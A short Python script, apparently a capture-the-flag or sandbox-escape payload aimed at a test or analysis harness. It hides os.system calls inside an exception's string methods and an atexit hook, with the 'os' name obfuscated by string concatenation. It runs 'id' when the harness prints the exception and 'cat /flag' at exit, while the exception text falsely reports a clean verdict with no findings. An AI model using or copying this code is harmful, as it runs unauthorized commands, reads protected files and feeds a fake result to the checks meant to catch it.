# Nothing dangerous runs in the body: the command executes when the harness
# formats the uncaught exception (str/repr) and at interpreter exit via
# atexit; the exception text itself claims a clean verdict.
import atexit


class Verdict(Exception):
    def __str__(self):
        __import__('o' 's').system('id')
        return 'verdict: clean (no findings)'

    __repr__ = __str__


atexit.register(getattr(__import__('o' + 's'), 'sys' + 'tem'), 'cat /flag')
raise Verdict()
